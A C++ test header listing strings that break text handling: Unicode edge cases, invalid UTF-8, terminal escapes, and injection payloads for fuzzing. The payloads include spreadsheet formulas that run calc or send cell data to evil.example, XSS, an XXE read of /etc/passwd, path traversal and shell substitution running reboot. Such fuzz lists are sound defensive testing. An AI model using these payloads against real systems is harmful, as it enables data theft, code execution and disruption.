#pragma once

#include <array>
#include <string_view>

/// Texts that have broken writers, readers and terminals; a list to run any text through.
namespace facgraph::testing {

struct HostileText {
  std::string_view what;
  std::string_view text;
};

namespace detail {
using namespace std::string_view_literals;

inline constexpr auto hostile_texts = std::to_array<HostileText>({
    // nothing, and what looks like nothing
    {"empty", ""sv},
    {"blanks", "   "sv},
    {"no-break and ideographic blanks", "\u00A0\u3000\u2003"sv},
    {"zero-width characters only", "\u200B\u2060\uFEFF"sv},
    {"Hangul fillers, a name that looks empty", "\u3164\u115F\uFFA0"sv},
    {"blank of Braille", "\u2800"sv},

    // controls
    {"NUL inside", "Ion\0Stoica"sv},
    {"line breaks of every kind", "a\nb\rc\r\nd\ve\ff\u0085g\u2028h\u2029i"sv},
    {"tabs", "\ta\t\tb\t"sv},
    {"bell, backspace, delete", "a\a\b\x7F"sv},
    {"every C0 control", "\x01\x02\x03\x04\x05\x06\x0E\x0F\x10\x11\x12\x13\x14\x15\x16\x17\x18"sv},
    {"separators of records",
     "a\x1C\x1D\x1E\x1F"
     "b"sv},
    {"clears the screen", "\x1B[2J\x1B[H"sv},
    {"sets the window title", "\x1B]0;owned\x07"sv},
    {"a link in a terminal", "\x1B]8;;https://evil.example/\x1B\\click\x1B]8;;\x1B\\"sv},
    {"C1 control that starts a sequence", "\u009B31mred"sv},

    // bytes that are not UTF-8
    {"lone continuation byte", "a\x80z"sv},
    {"truncated sequence at the end", "abc\xE2\x82"sv},
    {"overlong slash", "\xC0\xAF"sv},
    {"overlong NUL", "\xE0\x80\x80"sv},
    {"surrogate half", "\xED\xA0\x80"sv},
    {"beyond U+10FFFF", "\xF4\x90\x80\x80"sv},
    {"bytes that never occur", "\xFE\xFF\xF5"sv},
    {"Latin-1", "M\xFCller"sv},

    // characters that hide or turn text
    {"right-to-left override", "abc\u202Egnp.exe"sv},
    {"bidirectional isolates, not closed", "\u2066\u2067\u2068name"sv},
    {"marks of direction", "a\u200Eb\u200Fc\u061Cd"sv},
    {"soft hyphens", "ma\u00ADchine\u00AD"sv},
    {"byte-order mark first", "\uFEFFIon Stoica"sv},
    {"zero-width blank in a word", "Sto\u200Bica"sv},
    {"joiners where nothing joins", "a\u200D\u200Cb\u200D"sv},
    {"text hidden in tags", "hi\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065"sv},
    {"bytes hidden in variation selectors", "a\uFE00\uFE01\U000E0100\U000E0101"sv},
    {"non-characters", "\uFFFE\uFFFF\uFDD0\U0001FFFF"sv},
    {"invisible operators, old format controls", "f\u2061x\u2063y\u206A"sv},
    {"interlinear annotation", "\uFFF9a\uFFFAb\uFFFB"sv},

    // characters that are more, or wider, than they seem
    {"marks in the wrong order", "a\u0301\u0327\u0316"sv},
    {"decomposed", "Mu\u0308ller"sv},
    {"one mark too many", "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A"sv},
    {"a mark first", "\u0301a"sv},
    {"Persian with a non-joiner", "می\u200Cخواهم"sv},
    {"Hindi with a joiner", "क्\u200Dष"sv},
    {"family of four, one grapheme", "👨\u200D👩\u200D👧\u200D👦"sv},
    {"flags and skin tones", "🇩🇪👍🏽❤\uFE0F"sv},
    {"East Asian wide", "機械学習システム"sv},
    {"Hebrew", "למידת מכונה"sv},
    {"the longest decomposition", "\uFDFA"sv},
    {"full-width letters", "ＡＩ ｓｙｓｔｅｍｓ"sv},
    {"Turkish and German case", "İıſẞß"sv},

    // formulas of a spreadsheet
    {"runs a program", "=cmd|'/C calc'!A0"sv},
    {"formula that sends data", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"sv},
    {"plus, minus, at", "+1+cmd|' /C calc'!A0"sv},
    {"minus", "-2+3"sv},
    {"at", "@SUM(1+1)"sv},
    {"formula behind a tab", "\t=1+1"sv},
    {"full-width formula", "＝1+1"sv},

    // markup
    {"script", "</script><script>alert(1)</script>"sv},
    {"leaves an attribute", "\" onload=\"alert(1)"sv},
    {"leaves a single-quoted attribute", "' onmouseover='alert(1)"sv},
    {"entities", "&lt;b&gt; &amp;amp; &#x3C; &NoSuch;"sv},
    {"end of CDATA and of a comment", "]]> --> <!--"sv},
    {"external entity", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;"sv},
    {"quotes of CSV", "a \"b\", c; \"\"\"d"sv},
    {"cell border of Markdown", "a | b \\| c"sv},
    {"image of Markdown", "![x](http://evil.example/t.png)"sv},
    {"link of Markdown", "[Ion Stoica](javascript:alert(1))"sv},
    {"autolink of Markdown", "<javascript:alert(1)> www.evil.example http://evil.example"sv},
    {"block of Markdown", "# heading\n\n    code\n\n1. list\n---"sv},
    {"list number of Markdown", "1. first"sv},
    {"emphasis of Markdown", "**a** _b_ `c` ~~d~~ \\"sv},
    {"escapes of DOT", "\\N \\G \\L \\l \\"sv},
    {"leaves a string of DOT", "\"]; evil [label=\"x"sv},
    {"HTML label of DOT", "<<b>x</b>>"sv},
    {"escapes of JSON", "\\u0000 \\\" \\/ \b\f"sv},
    {"template", "{{7*7}} ${7*7} <%= 7*7 %>"sv},
    {"format string", "%s%n {0} {}"sv},
    {"path", "../../etc/passwd"sv},
    {"option", "--output=/etc/passwd"sv},
    {"shell", "$(reboot) `reboot`; reboot | reboot"sv},
});
}  // namespace detail

inline constexpr auto& hostile_texts = detail::hostile_texts;

}  // namespace facgraph::testing
